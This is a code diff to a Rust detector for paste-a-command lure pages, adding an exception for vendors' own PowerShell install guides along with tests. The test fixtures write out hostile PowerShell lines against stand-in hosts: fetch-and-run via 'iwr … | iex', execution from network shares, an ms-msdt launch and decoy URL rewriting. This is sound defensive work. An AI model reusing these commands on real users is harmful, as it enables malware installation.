@@ -13,7 +13,7 @@
 //!   trick. A developer page with a copy button for `curl … | sh` or `npm install` has none of
 //!   these and stays silent.
 
-use super::domain::{host_of, is_user_content, registrable};
+use super::domain::{host_of, is_user_content, registrable, Site};
 use super::lexicon::{lexicon, Cat, Hit};
 use super::normalize::{is_invisible, normalize};
 use super::weights::{
@@ -192,8 +192,8 @@ impl Command {
     /// `curl -LO … && chmod +x` and an `osascript` that runs no shell and asks for no password
     /// for Terminal. Anything that hides a window, encodes the script, decodes base64 into a
     /// shell or goes through mshta, regsvr32, certutil … is never documentation.
-    pub fn install_like(&self, page_site: &str) -> bool {
-        (self.published || self.fetches_from_site(page_site))
+    pub fn install_like(&self, page: &PageHits) -> bool {
+        (self.published || self.fetches_from_site(&page.site) || page.vendor_installer(self))
             && self.shapes.iter().all(|s| match s {
                 Shape::PowerShellDownload
                 | Shape::PowerShell
@@ -1190,6 +1190,81 @@ impl PageHits {
         self.flat.matches("msiexec").count() > self.flat.matches(command.flat.as_str()).count()
     }
 
+    /// A vendor's own Windows install guide (review 27 H3's other side, review 30 CV-H1): the
+    /// page shows the command, says it installs and names no video, film or meeting (a lure's
+    /// reason to install: review 29 CP-M1), and the command is the vendor's template, word for
+    /// word: `iwr`/`Invoke-WebRequest [-Uri] https://HOST/… -OutFile FILE; Start-Process FILE`
+    /// (or `Start-Process msiexec -Wait -ArgumentList /i FILE /qn`). HOST is a domain registered
+    /// under a name that starts with the page's registrable name (four letters or more, then
+    /// `-` or nothing: `hammer-cdn.test` on hammer.example; not shared hosting), or github.com /
+    /// gitlab.com with an owner named so (`github.com/hammer-cli/…`): a domain or an account a
+    /// kit must register per site. Nothing else on the line: no variable but `$env:` in the
+    /// path, no string method, pipe or parenthesis, no other word, so no second address with or
+    /// without a scheme; no share, `..`, `%` or protocol: a kit writes a site's name into a decoy
+    /// URL it rewrites or fetches beside its own for free.
+    #[inline(never)]
+    fn vendor_installer(&self, command: &Command) -> bool {
+        let name = self.site.split('.').next().unwrap_or("");
+        // `name` starts the label or the owner: `hammer-cdn`, `hammer-cli/`, not `hammerx`.
+        let owns = |l: &str| {
+            l.strip_prefix(name)
+                .is_some_and(|r| matches!(r.bytes().next(), None | Some(b'-' | b'/')))
+        };
+        let f = &command.flat;
+        let toks = tokens(f);
+        // (Many guides first turn off the progress bar that slows the download.)
+        let toks = toks
+            .strip_prefix(&["$progresspreference", "=", "silentlycontinue"][..])
+            .unwrap_or(&toks);
+        let [v, rest @ ..] = toks else {
+            return false;
+        };
+        let rest = rest.strip_prefix(&["-uri"][..]).unwrap_or(rest);
+        let [url, "-outfile", file, "start-process", run @ ..] = rest else {
+            return false;
+        };
+        let Some(addr) = url.strip_prefix("https://") else {
+            return false;
+        };
+        let path = file.strip_prefix("$env:").unwrap_or(file);
+        name.len() >= 4
+            && matches!(*v, "iwr" | "invoke-webrequest")
+            // ASCII, read as written: no look-alike dot, `%`-escape or quote (the whole line).
+            && f.bytes()
+                .all(|b| b.is_ascii_alphanumeric() || b" .-_\\/:;,?=#~$".contains(&b))
+            && !has(addr, "..")
+            && !has(addr, "\\")
+            && !has(addr, "$")
+            && (Site::new(&host_of(url)).own_label().is_some_and(owns)
+                || addr
+                    .strip_prefix("github.com/")
+                    .or(addr.strip_prefix("gitlab.com/"))
+                    .is_some_and(owns))
+            // A local path (`.\x.exe`, `$env:TEMP\x.exe`): no share, protocol or variable.
+            && !path.starts_with('\\')
+            && !has(path, "\\\\")
+            && !has(path, ":")
+            && !has(path, "/")
+            && !has(path, "$")
+            // The saved path itself (or without its `.\`: `msiexec /i setup.msi`), never a part of it
+            // (`-OutFile x\\host\s\r.exe; Start-Process \\host\s\r.exe`: review 31 CF-H1), started
+            // by itself or msiexec, with install flags.
+            && run.iter().all(|t| {
+                t == file
+                    || file.strip_prefix(".\\") == Some(*t)
+                    || has_word(
+                        "msiexec msiexec.exe -filepath -wait -argumentlist /i /qn /quiet /passive /norestart",
+                        t,
+                    )
+            })
+            && self.shows(command)
+            && self.install_prose()
+            && !"video vídeo vidéo film movie watch meeting réunion reunión besprechung película \
+                 vergadering reunião riunione"
+                .split(' ')
+                .any(|w| has(&self.flat, w))
+    }
+
     /// Install documentation, not a lure: the page documents an installation (or shows the
     /// command it copies) and dresses it as nothing else: no verification, no error, repair,
     /// missing update or file to open, no infection or system screen.
@@ -1652,7 +1727,7 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
         .of(Cat::VerifyHuman)
         .map(|h| h.weight)
         .fold(0.0f32, f32::max);
-    let install_like = command.install_like(&page.site);
+    let install_like = command.install_like(page);
     // With a CAPTCHA named next to it, "verification steps" is the check's own.
     let page_pretext = verify >= 1.0
         || verify >= GENERIC_VERIFY && (page.weight(Cat::VerifyHuman) >= 1.0 || !install_like);
@@ -3702,8 +3777,8 @@ mod tests {
     fn an_installer_saved_and_started_is_no_documentation_by_itself() {
         // A page that gives a reason to install something to see or join the page itself, with
         // the same shape as vendors' docs (an https redirect saved as a named installer and
-        // started) and install words, is a lure (review 27 H3): the shape alone excuses nothing,
-        // so vendors' guides of this shape stay warned (DETECTION.md says so).
+        // started) and install words, is a lure (review 27 H3): its page is not the product's
+        // site, or (on a site named after it) its reason is its film or meeting (review 29 CP-M1).
         for (url, title, text, c) in [
             (
                 "https://films-hd.example/movie/77",
@@ -3724,10 +3799,162 @@ mod tests {
                  Start-Process msiexec.exe -ArgumentList '/i', \"$env:TEMP\\MeetAudio.msi\", \
                  '/quiet'",
             ),
+            (
+                "https://clipplayer.example/v/3390",
+                "Install ClipPlayer",
+                "Install ClipPlayer\nTo watch this clip, install ClipPlayer for Windows.\nPress \
+                 Win+X and choose Windows PowerShell (Admin), then run the following \
+                 command:\n{c}\nCopy",
+                "Invoke-WebRequest -Uri https://cdn.clipplayer-dl.test/win -OutFile \
+                 .\\ClipPlayer.exe; Start-Process .\\ClipPlayer.exe",
+            ),
         ] {
             let s = snap_of(url, title, &text.replace("{c}", c), c);
             assert!(reasons(&s).is_some(), "{text}");
         }
+        // On rosebakery.example, a kit's forms of the vendor's template (review 30 CV-H1, CV-M2):
+        // the site's name anywhere but in a domain or code-host account of its own, a decoy URL
+        // rewritten or fetched beside the kit's, a second download without a scheme, a share or
+        // another program started, a variable, the command kept off the page.
+        let text = "Our menu opens in the Rosebakery Reader. Install the Rosebakery Reader for \
+                    Windows.\nPress Win+X and choose Windows PowerShell (Admin), then run the \
+                    following command:\n{c}\nCopy";
+        for c in [
+            // The name in the file, a query, a subdomain, a kit domain containing it, shared
+            // hosting, another owner's code-host URL.
+            "Invoke-WebRequest -Uri https://cdn.files-mirror.test/r -OutFile \
+             $env:TEMP\\rosebakery-reader.exe; Start-Process $env:TEMP\\rosebakery-reader.exe",
+            "Invoke-WebRequest -Uri https://cdn.files-mirror.test/r?ref=rosebakery -OutFile \
+             .\\reader-setup.exe; Start-Process .\\reader-setup.exe",
+            "Invoke-WebRequest -Uri https://rosebakery.files-mirror.test/r -OutFile .\\Reader.exe; \
+             Start-Process .\\Reader.exe",
+            "Invoke-WebRequest -Uri https://dl.myrosebakery-dl.test/r -OutFile .\\Reader.exe; \
+             Start-Process .\\Reader.exe",
+            "Invoke-WebRequest -Uri https://rosebakery-cdn.netlify.app/r -OutFile .\\Reader.exe; \
+             Start-Process .\\Reader.exe",
+            "Invoke-WebRequest -Uri https://github.com/kit-owner/r/releases/download/v1/r.exe\
+             ?src=github.com/rosebakery -OutFile .\\Reader.exe; Start-Process .\\Reader.exe",
+            "Invoke-WebRequest -Uri https://github.com/rosebakery/../kit-owner/r/releases/\
+             download/v1/r.exe -OutFile .\\Reader.exe; Start-Process .\\Reader.exe",
+            "Invoke-WebRequest -Uri https://kit.test\\.rosebakery-cdn.test/r -OutFile \
+             .\\Reader.exe; Start-Process .\\Reader.exe",
+            // A decoy naming the site (review 30 d20, d21, d23).
+            "$u = 'https://rosebakery-cdn.test/r'.Replace('rosebakery-cdn.test','cdn.kit.test'); \
+             Invoke-WebRequest -Uri $u -OutFile $env:TEMP\\reader.exe; Start-Process \
+             $env:TEMP\\reader.exe",
+            "$h = 'kit.test'; Invoke-WebRequest -Uri \"https://rosebakery-cdn.test.$h/r\" -OutFile \
+             $env:TEMP\\reader.exe; Start-Process $env:TEMP\\reader.exe",
+            "Invoke-WebRequest -Uri https://rosebakery-cdn.test/r -OutFile $env:TEMP\\r.exe; \
+             Start-Process $env:TEMP\\r.exe; Invoke-WebRequest cdn.kit.test/s -OutFile \
+             $env:TEMP\\s.exe; Start-Process $env:TEMP\\s.exe",
+            "Invoke-WebRequest -Uri https://rosebakery-cdn.test/r -OutFile $env:TEMP\\r.exe; \
+             Start-Process $env:TEMP\\r.exe\niwr cdn.kit.test/s | iex",
+            "Invoke-WebRequest -Uri https://rosebakery-cdn.test/r -Proxy http://cdn.kit.test:80 \
+             -OutFile .\\r.exe; Start-Process .\\r.exe",
+            // Saved, then something else started: a share, a protocol, a shell.
+            "Invoke-WebRequest -Uri https://rosebakery-cdn.test/r -OutFile .\\r.exe; Start-Process \
+             \\\\kit.test@SSL\\s\\r.exe",
+            "Invoke-WebRequest -Uri https://rosebakery-cdn.test/r -OutFile \\\\kit.test\\s\\r.exe; \
+             Start-Process \\\\kit.test\\s\\r.exe",
+            "Invoke-WebRequest -Uri https://rosebakery-cdn.test/r -OutFile ms-msdt:/id; \
+             Start-Process ms-msdt:/id",
+            "Invoke-WebRequest -Uri https://rosebakery-cdn.test/r -OutFile \
+             x\\\\kit.test\\d\\r.exe; Start-Process \\\\kit.test\\d\\r.exe",
+            "Invoke-WebRequest -Uri https://rosebakery-cdn.test/r -OutFile \
+             x\\\\203.0.113.44\\d\\r.exe; Start-Process \\\\203.0.113.44\\d\\r.exe",
+            "Invoke-WebRequest -Uri https://rosebakery-cdn.test/r -OutFile .\\r.exe; Start-Process \
+             powershell -ArgumentList .\\r.exe",
+        ] {
+            let s = snap_of(
+                "https://rosebakery.example/menu",
+                "Rosebakery Reader",
+                &text.replace("{c}", c),
+                c,
+            );
+            assert!(reasons(&s).is_some(), "{c}");
+        }
+        // The vendor's template itself, kept off the page ("press Ctrl+V"), or on a site named
+        // like the product with a film or meeting as its reason (review 29 CP-M1).
+        let c = "Invoke-WebRequest -Uri https://dl.rosebakery-cdn.test/r -OutFile .\\Reader.exe; \
+                 Start-Process .\\Reader.exe";
+        let hidden = "Install the Rosebakery Reader for Windows.\nPress Win+X and choose Windows \
+                      PowerShell (Admin), press Ctrl+V and press Enter.";
+        let s = snap_of("https://rosebakery.example/menu", "Reader", hidden, c);
+        assert!(reasons(&s).is_some(), "{hidden}");
+        for reason in [
+            "To watch the video, install",
+            "Pour rejoindre la réunion, installez",
+        ] {
+            let t = text.replace("Install", reason).replace("{c}", c);
+            let s = snap_of("https://rosebakery.example/menu", "Reader", &t, c);
+            assert!(reasons(&s).is_some(), "{t}");
+        }
+    }
+
+    #[test]
+    fn vendor_install_guides_fetching_from_a_release_host() {
+        // Invented honest guides on the vendor's own site: the command saves and starts the
+        // product's installer from its code host's release or its CDN on a domain named after
+        // the site, under install words, with no reason drawn from the page itself (review 27
+        // H3's other side, review 30 CV-H1's fix: the vendor's template only).
+        for (url, title, text, c) in [
+            (
+                "https://hammer.example/docs/windows",
+                "Install Hammer on Windows - Hammer docs",
+                "Install on Windows\nPress Win+X and choose Windows PowerShell (Admin), then run \
+                 the following command:\n{c}\nCopy\nThe installer adds hammer to your PATH.",
+                "Invoke-WebRequest -Uri https://github.com/hammer-cli/hammer/releases/download/\
+                 v1.8.0/hammer-1.8.0-x64.exe -OutFile .\\hammer-setup.exe; Start-Process \
+                 .\\hammer-setup.exe",
+            ),
+            (
+                "https://docs.kessel.example/de/installieren",
+                "Kessel CLI unter Windows installieren",
+                "Installation unter Windows\nDrücken Sie Win+X, wählen Sie Windows PowerShell \
+                 (Administrator) und führen Sie den folgenden Befehl aus:\n{c}\nKopieren",
+                "$ProgressPreference = 'SilentlyContinue'; Invoke-WebRequest -Uri \
+                 https://releases.kessel-cdn.test/stable/windows -OutFile .\\kessel-setup.msi; \
+                 Start-Process msiexec.exe -Wait -ArgumentList '/i kessel-setup.msi /quiet'",
+            ),
+            (
+                "https://www.notaspinta.example/es/descargar",
+                "Descargar NotasPinta para Windows",
+                "Instalación en Windows\nPulse Win+X, elija Windows PowerShell (Administrador) y \
+                 ejecute el siguiente comando:\n{c}\nCopiar",
+                "iwr \"https://cdn.notaspinta-files.test/win/x64\" -OutFile \
+                 \"$env:TEMP\\NotasPintaSetup.exe\"; Start-Process \
+                 \"$env:TEMP\\NotasPintaSetup.exe\"",
+            ),
+        ] {
+            let s = snap_of(url, title, &text.replace("{c}", c), c);
+            assert_eq!(reasons(&s), None, "{text}");
+            // On another site (an IT department's, a mirror's: stated in DETECTION.md), or with
+            // anything added to the line, it is what it was.
+            let s = snap_of(
+                "https://mirror-dl.example/",
+                title,
+                &text.replace("{c}", c),
+                c,
+            );
+            assert!(reasons(&s).is_some(), "{text}");
+            for more in [
+                format!("{c}; iwr 203.0.113.80/k | iex"),
+                format!("{c} -WindowStyle Hidden"),
+                c.replacen("-OutFile", "-UserAgent x -OutFile", 1),
+            ] {
+                let s = snap_of(url, title, &text.replace("{c}", &more), &more);
+                assert!(reasons(&s).is_some(), "{more}");
+            }
+        }
+        // Run from the pipe, nothing saved: not this shape (a published `.ps1` or the page's own
+        // site only, as before).
+        let c = "irm https://cdn.hammer-get.test/win | iex";
+        let text = format!(
+            "Install on Windows\nPress Win+X and choose Windows PowerShell (Admin), then run the \
+             following command:\n{c}\nCopy"
+        );
+        let s = snap_of("https://hammer.example/docs/", "Install Hammer", &text, c);
+        assert!(reasons(&s).is_some(), "{text}");
     }
 
     #[test]
